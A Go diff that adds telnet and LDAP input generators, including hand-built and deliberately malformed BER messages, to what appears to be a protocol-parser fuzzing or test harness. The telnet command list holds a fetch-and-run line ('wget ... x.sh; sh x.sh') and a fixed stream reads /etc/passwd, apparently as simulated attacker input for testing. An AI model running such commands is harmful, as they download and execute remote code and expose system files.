@@ -286,6 +286,145 @@ func httpMalformed(r *hx.Rand, svc string) stream {
 		"\r\n", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\n"})}}
 }
 
+
+// ---- telnet: plain input (bytes below 128, no ESC, no ^W) ----
+func telnetStream(r *hx.Rand) stream {
+	s := stream{svc: "telnet"}
+	eol := func() string { return r.PickStr([]string{"\r\n", "\r\n", "\r\n", "\n", "\r\x00\n", "\r\r\n"}) }
+	s.units = append(s.units, r.PickStr([]string{"root", "admin", "", "user name"})+eol())
+	s.units = append(s.units, r.PickStr([]string{"secret", "123456", "", "p@ss w0rd"})+eol())
+	n := r.Range(0, 4)
+	for i := 0; i < n; i++ {
+		cmd := r.PickStr([]string{"uname -a", "cat /proc/cpuinfo", "", "wget http://198.51.100.9/x.sh; sh x.sh", "ls", "enable", "sh",
+			"lss\x7f -l", "typo\x08\x08\x08\x08echo ok", "discard this\x15id", "abc\x01X\x05Z", "keep\x0bdropped?", "ab\x01\x04c", "bell\x07tab\there", "x\x0cy"})
+		s.units = append(s.units, cmd+eol())
+	}
+	switch r.Intn(5) {
+	case 0:
+		s.units = append(s.units, "\x04", "ignored after ^D\r\n")
+	case 1:
+		s.tail = r.PickStr([]string{"unfinished", "exit\r", "\r"})
+	}
+	return s
+}
+
+// ---- ldap: BER by hand ----
+func berLen(n int) []byte {
+	switch {
+	case n < 128:
+		return []byte{byte(n)}
+	case n < 256:
+		return []byte{0x81, byte(n)}
+	default:
+		return []byte{0x82, byte(n >> 8), byte(n)}
+	}
+}
+
+func tlv(id byte, content ...[]byte) []byte {
+	var c []byte
+	for _, x := range content {
+		c = append(c, x...)
+	}
+	return append(append([]byte{id}, berLen(len(c))...), c...)
+}
+
+func berInt(v int) []byte {
+	if v < 128 {
+		return tlv(0x02, []byte{byte(v)})
+	}
+	return tlv(0x02, []byte{byte(v >> 8), byte(v)})
+}
+
+func octets(s string) []byte { return tlv(0x04, []byte(s)) }
+
+func ldapMsg(id int, op []byte) []byte { return tlv(0x30, berInt(id), op) }
+
+func ldapOp(r *hx.Rand, kind string) []byte {
+	switch kind {
+	case "bind":
+		return tlv(0x60, berInt(3), octets(r.PickStr([]string{"cn=root,dc=example,dc=org", "", "uid=admin"})), tlv(0x80, []byte(r.PickStr([]string{"root", "secret", ""}))))
+	case "bind-short":
+		return tlv(0x60, berInt(3))
+	case "search":
+		return tlv(0x63, octets(r.PickStr([]string{"", "dc=example,dc=org"})), tlv(0x0a, []byte{byte(r.Intn(3))}), tlv(0x0a, []byte{0}), berInt(0), berInt(0), tlv(0x01, []byte{0}),
+			tlv(0x87, []byte("objectClass")), tlv(0x30, octets("cn")))
+	case "search-eq":
+		return tlv(0x63, octets("dc=example,dc=org"), tlv(0x0a, []byte{2}), tlv(0x0a, []byte{0}), berInt(10), berInt(0), tlv(0x01, []byte{0}),
+			tlv(0xa3, octets("uid"), octets(r.PickStr([]string{"jdoe", "root"}))), tlv(0x30))
+	case "extended":
+		return tlv(0x77, tlv(0x80, []byte("1.3.6.1.4.1.4203.1.11.3")))
+	case "extended-val":
+		return tlv(0x77, tlv(0x80, []byte("1.3.6.1.4.1.4203.1.11.1")), tlv(0x81, []byte("value")))
+	case "extended-nooid":
+		return tlv(0x77, octets("not an oid"))
+	case "modify":
+		return tlv(0x66, octets("cn=x,dc=example,dc=org"), tlv(0x30, tlv(0x30, tlv(0x0a, []byte{2}), tlv(0x30, octets("mail"), tlv(0x31, octets("x@example.org"))))))
+	case "add":
+		return tlv(0x68, octets("cn=new,dc=example,dc=org"), tlv(0x30, tlv(0x30, octets("objectClass"), tlv(0x31, octets("person")))))
+	case "add-big":
+		return tlv(0x68, octets("cn=big,dc=example,dc=org"), tlv(0x30, tlv(0x30, octets("jpegPhoto"), tlv(0x31, octets(strings.Repeat("J", 5000))))))
+	case "delete":
+		return tlv(0x4a, []byte("cn=x,dc=example,dc=org"))
+	case "modify-dn":
+		return tlv(0x6c, octets("cn=x,dc=example,dc=org"), octets("cn=y"), tlv(0x01, []byte{0xff}))
+	case "compare":
+		return tlv(0x6e, octets("cn=x,dc=example,dc=org"), tlv(0x30, octets("sn"), octets("Doe")))
+	case "abandon":
+		return tlv(0x50, []byte{byte(r.Range(1, 9))})
+	case "unbind":
+		return tlv(0x42)
+	case "unknown-app":
+		return tlv(byte(r.PickInt([]int{0x65, 0x67, 0x73, 0x7e, 0x40, 0x43})), octets("x"))
+	case "universal":
+		return tlv(byte(r.PickInt([]int{0x30, 0x04, 0x0a, 0x26})), []byte{})
+	case "context":
+		return tlv(byte(r.PickInt([]int{0xa0, 0x86, 0x90})), []byte("zz"))
+	}
+	return nil
+}
+
+var ldapKinds = []string{"bind", "bind-short", "search", "search-eq", "extended", "extended-val", "extended-nooid", "modify", "add", "delete",
+	"modify-dn", "compare", "abandon", "abandon", "unknown-app", "universal", "context"}
+
+func ldapStream(r *hx.Rand) stream {
+	s := stream{svc: "ldap"}
+	id := r.Range(1, 120)
+	n := r.Range(1, 6)
+	for i := 0; i < n; i++ {
+		kind := ldapKinds[r.Intn(len(ldapKinds))]
+		if r.Chance(1, 12) {
+			kind = "add-big"
+		}
+		s.units = append(s.units, string(ldapMsg(id, ldapOp(r, kind))))
+		id += r.Range(1, 200)
+	}
+	switch r.Intn(10) {
+	case 0, 1, 2:
+		s.units = append(s.units, string(ldapMsg(id, ldapOp(r, "unbind"))))
+		if r.Bool() {
+			s.units = append(s.units, string(ldapMsg(id+1, ldapOp(r, "compare")))) // after unbind: not read
+		}
+	case 3: // envelope with the message id only
+		s.units = append(s.units, string(tlv(0x30, berInt(id))), string(ldapMsg(id+1, ldapOp(r, "abandon"))))
+	case 4: // malformed / refused envelopes end the session
+		s.units = append(s.units, r.PickStr([]string{
+			"\x30\x80\x02\x01\x01\x00\x00",                 // indefinite length
+			"\x3f\x81\x00\x03\x02\x01\x01",                 // high tag number
+			"\x30\x85\x01\x00\x00\x00\x00\x00",            // 5 length bytes
+			"\x30\x84\x00\x20\x00\x00",                      // 2 MiB
+			"\x30\x06\x02\x01\x05\x50\x09\x02",            // inner length runs over the envelope
+			"\x30\x00",                                          // no children
+			"\x30\x05\x04\x01\x05\x42\x00",                 // message id is not an INTEGER
+			"\x31\x05\x02\x01\x05\x42\x00",                 // envelope is a SET
+			"\x30\x81\x05\x02\x01\x06\x42\x00",            // long form for a short length: fine
+			"\x30\x06\x02\x01\x07\x77\x00\x00",            // trailing bytes inside? extended without children
+		}), string(ldapMsg(id+2, ldapOp(r, "delete"))))
+	case 5:
+		s.tail = string(ldapMsg(id, ldapOp(r, "modify")))[:r.Range(1, 10)]
+	}
+	return s
+}
+
 // ---- segmentations ----
 func (s stream) input(mode string, cuts []int, waits []int) Input {
 	return Input{Svc: s.svc, Stream: s.bytes(), Cuts: cuts, Waits: waits, Mode: mode}
@@ -364,7 +503,9 @@ func singleCuts(s stream, r *hx.Rand, sample int) []Input {
 
 func expand(s stream, r *hx.Rand, exhaustive bool, sample int) []Input {
 	out := []Input{s.input("whole", nil, nil)}
-	if exhaustive {
+	if exhaustive && len(s.bytes()) > 700 {
+		out = append(out, singleCuts(s, r, 80)...) // long streams: unit boundaries, their neighbours, random positions
+	} else if exhaustive {
 		out = append(out, singleCuts(s, r, 0)...)
 	} else {
 		out = append(out, singleCuts(s, r, sample)...)
@@ -454,7 +595,17 @@ func generate(r *hx.Rand, tier string) []Input {
 	sm := stream{svc: "smtp", units: []string{"EHLO c\r\n", "MAIL FROM:<a@b>\r\n", "RCPT TO:<c@d>\r\n", "DATA\r\n", "Subject: s\r\n\r\n..x\r\n.\r\n", "QUIT\r\n"}}
 	sb := stream{svc: "smtp", units: []string{"HELO c\r\n", "MAIL FROM:<a@b>\r\n", "BDAT 14\r\nSubject: s\r\n\r\n", "BDAT 4 LAST\r\nbody", "NOOP\r\n"}}
 	rd := stream{svc: "redis", units: []string{resp("INFO"), resp("SET", "k", "v"), "\r\n", resp("PING")}}
-	for _, s := range []stream{mc, h2, hp, ft, sm, sb, rd} {
+	tn := stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", "uname -a\r\n", "cat /etc/passwd\r\n", "exit\r\n"}}
+	rr := hx.NewRand(7)
+	ld := stream{svc: "ldap", units: []string{string(ldapMsg(1, ldapOp(rr, "bind"))), string(ldapMsg(2, ldapOp(rr, "search"))), string(ldapMsg(3, ldapOp(rr, "abandon"))),
+		string(ldapMsg(4, ldapOp(rr, "delete"))), string(tlv(0x30, berInt(5))), string(ldapMsg(6, ldapOp(rr, "abandon"))), string(ldapMsg(7, ldapOp(rr, "compare"))), string(ldapMsg(8, ldapOp(rr, "unbind")))}}
+	// every ldap operation kind once, message ids 1.., then unbind
+	la := stream{svc: "ldap"}
+	for i, k := range []string{"bind", "bind-short", "search", "search-eq", "extended", "extended-val", "extended-nooid", "modify", "add", "delete",
+		"modify-dn", "compare", "abandon", "unknown-app", "universal", "context", "unbind"} {
+		la.units = append(la.units, string(ldapMsg(i+1, ldapOp(rr, k))))
+	}
+	for _, s := range []stream{mc, h2, hp, ft, sm, sb, rd, tn, ld, la} {
 		ins = append(ins, expand(s, r, true, 0)...)
 	}
 	ins = append(ins, Input{Svc: "dns", Stream: dnsQuery(4660, "example.org"), Mode: "datagram"})
@@ -470,6 +621,8 @@ func generate(r *hx.Rand, tier string) []Input {
 		ins = append(ins, expand(ftpStream(r), r, ex, sample)...)
 		ins = append(ins, expand(smtpStream(r), r, ex, sample)...)
 		ins = append(ins, expand(redisStream(r), r, ex, sample)...)
+		ins = append(ins, expand(telnetStream(r), r, true, 0)...)
+		ins = append(ins, expand(ldapStream(r), r, ex, sample+6)...)
 		ins = append(ins, expand(memcachedStream(r, i%2 == 1), r, ex, sample)...)
 		ins = append(ins, expand(httpStream(r, "http", r.Range(1, 3), i%2 == 1), r, ex, sample)...)
 		// one request per connection by design (property quantifier)
